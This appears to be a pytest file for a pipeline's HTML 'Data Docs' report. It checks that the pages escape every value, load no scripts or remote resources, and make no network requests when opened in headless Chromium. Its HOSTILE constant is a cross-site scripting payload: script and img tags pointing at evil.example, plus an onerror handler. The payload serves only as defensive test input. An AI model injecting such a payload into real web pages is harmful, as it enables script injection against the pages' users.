"""The Data Docs read without a network, show what was found, and run nothing, whatever the values hold."""

from __future__ import annotations

import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from p2p_pipeline.p2p.quality.outcome import QualityOutcome, Severity
from p2p_pipeline.p2p.quality.warehouse import data_docs
from p2p_pipeline.p2p.quality.warehouse.data_docs import INDEX, build_data_docs
from p2p_pipeline.p2p.quality.warehouse.docs_pages import batch_page, index_page
from p2p_pipeline.p2p.quality.warehouse.documented_batch import DocumentedBatch
from p2p_pipeline.p2p.quality.warehouse.judging import judged_batch
from p2p_pipeline.p2p.quality.warehouse.record import record_outcomes
from p2p_pipeline.p2p.quality.warehouse.table_results import ExpectationResult, TableResult
from p2p_pipeline.p2p.settings_warehouse import WarehouseSettings
from p2p_pipeline.postgres.connection import connect
from p2p_pipeline.postgres.server import WarehouseServer
from p2p_pipeline_tests.p2p.quality.warehouse.made_batches import id_of, moment_of

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
HOSTILE = '"><script src="http://evil.example/x.js"></script><img src=http://evil.example/i.png onerror=alert(1)>'
RESULTS = (
    TableResult(
        "fact_offers",
        "the batch's offers",
        55_000,
        (
            ExpectationResult("price values must be greater than 0.", "", True, "all of 55,000"),
            ExpectationResult(
                "nickname values must be short.", "They are strangers'.", False, "2 of 55,000 do not", (HOSTILE, "б😀")
            ),
        ),
    ),
    TableResult("dim_fiat_currencies", "all fiats", 110, (ExpectationResult("It is there.", "", True, "110"),)),
)
RULE = QualityOutcome(
    "raw_checksum",
    False,
    Severity.ERROR,
    "the same",
    f"1 offer that differs: {HOSTILE}\x00",
    ({"problem": HOSTILE, "raw_path": "2026-09-01/binance.sweep-RUB.jsonl"},),
    1.0,
    0.0,
)


def build(server: WarehouseServer, folder: Path, step: int = 2) -> Path:
    with connect(server) as connection:
        batch = judged_batch(connection, id_of(step), WarehouseSettings(), moment_of(2) + timedelta(minutes=4))
        record_outcomes(connection, batch.batch_id, [RULE], batch.now)
        return build_data_docs(folder, batch, RESULTS)


class Page(HTMLParser):
    """What a page would fetch, run, and show."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.handlers: list[str] = []
        self.text = ""
        self.feed(path.read_text(encoding="utf-8"))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action", "data")]
        self.handlers += [name for name, _ in attrs if name.startswith("on")]

    def handle_data(self, data: str) -> None:
        self.text += data


def test_every_page_is_whole_by_itself(sound_warehouse: WarehouseServer, tmp_path: Path) -> None:
    page = build(sound_warehouse, tmp_path)
    for path in (page, tmp_path / INDEX):
        found = Page(path)
        assert not {"script", "link", "img", "iframe", "object", "form"} & set(found.tags)
        assert found.handlers == []
        for link in found.links:
            assert link.startswith("#") or (tmp_path / link).is_file(), link
        style = path.read_text(encoding="utf-8").partition("<style>")[2].partition("</style>")[0]
        assert len(style) > 1000
        assert "url(" not in style
        assert "@import" not in style


def test_the_pages_say_what_was_expected_what_was_seen_and_what_should_not_be_there(
    sound_warehouse: WarehouseServer, tmp_path: Path
) -> None:
    page = build(sound_warehouse, tmp_path)
    text = Page(page).text
    for words in (
        "price values must be greater than 0.", "all of 55,000", "2 of 55,000 do not", "They are strangers'.", HOSTILE,
        "б😀", "1 of 3 expectations and 1 of 1 rules do not hold.", "raw_checksum", "binance.sweep-RUB.jsonl",
    ):  # fmt: skip
        assert words in text, words
    index = Page(tmp_path / INDEX)
    assert page.name in index.links
    assert "fact_offers (1), raw_checksum" in index.text


def test_a_batch_judged_again_replaces_its_page_and_others_stay_newest_first(
    sound_warehouse: WarehouseServer, tmp_path: Path
) -> None:
    pages = [build(sound_warehouse, tmp_path, step) for step in (1, 0, 2, 1)]
    listed = [link for link in Page(tmp_path / INDEX).links if link.startswith("batch-")]
    assert listed == [pages[2].name, pages[0].name, pages[1].name]
    assert not list(tmp_path.rglob(".*")), "nothing half-written is left"


def test_old_pages_go_and_what_cannot_be_read_does_not_stop_new_ones(
    sound_warehouse: WarehouseServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(data_docs, "KEPT_BATCHES", 2)
    oldest = build(sound_warehouse, tmp_path, 0)
    (tmp_path / "results" / "7.json").write_text('{"half": ', encoding="utf-8")
    build(sound_warehouse, tmp_path, 1)
    assert oldest.exists()
    build(sound_warehouse, tmp_path, 2)
    assert not oldest.exists()
    assert sorted(path.stem for path in (tmp_path / "results").iterdir()) == [str(id_of(1)), str(id_of(2))]


@given(st.text(), st.text())
def test_no_value_becomes_markup(value: str, other: str) -> None:
    tables = (TableResult("t", value, 1, (ExpectationResult(other, value, False, other, (value,)),)),)
    rule = {"name": "r", "passed": False, "expected": value, "observed": other, "sample": [{value: other}]}
    batch = DocumentedBatch(1, value, other, value, other, 1, 1, value, (rule,), tables)
    plain = DocumentedBatch(
        1, "x", "x", "x", "x", 1, 1, "x",
        ({"name": "r", "passed": False, "expected": "x", "observed": "x", "sample": [{"x": "x"}]},),
        (TableResult("t", "x", 1, (ExpectationResult("x", "x", False, "x", ("x",)),)),),
    )  # fmt: skip
    for page in (batch_page, index_page):
        shown, usual = (page(b) if page is batch_page else index_page([b]) for b in (batch, plain))
        if value and other:
            assert shown.count("<") == usual.count("<")
        assert shown.count("<script") == 0


@contextmanager
def recording_proxy() -> Iterator[tuple[str, list[str]]]:
    """A proxy that answers nobody and notes who was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def refuse(self) -> None:
            asked.append(self.path)
            self.send_error(503)

        do_GET = do_POST = do_CONNECT = refuse  # noqa: N815 - the names that http.server calls

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="no chromium here: the pages can't be looked at")
@pytest.mark.timeout(200)
def test_a_browser_without_a_network_shows_all_of_it_and_asks_nobody(
    sound_warehouse: WarehouseServer, tmp_path: Path
) -> None:
    assert CHROMIUM is not None
    page = build(sound_warehouse, tmp_path / "docs")
    with recording_proxy() as (proxy, asked):
        shown = subprocess.run(
            [
                CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                f"--proxy-server={proxy}", f"--user-data-dir={tmp_path / 'browser'}", "--dump-dom",
                f"--screenshot={tmp_path / 'page.png'}", "--window-size=1200,1600", page.as_uri(),
            ],
            capture_output=True, text=True, check=True, timeout=150,
        ).stdout  # fmt: skip
    assert "price values must be greater than 0." in shown
    assert "2 of 55,000 do not" in shown
    assert "<script" not in shown
    assert not [address for address in asked if "evil.example" in address]
    assert (tmp_path / "page.png").stat().st_size > 10_000
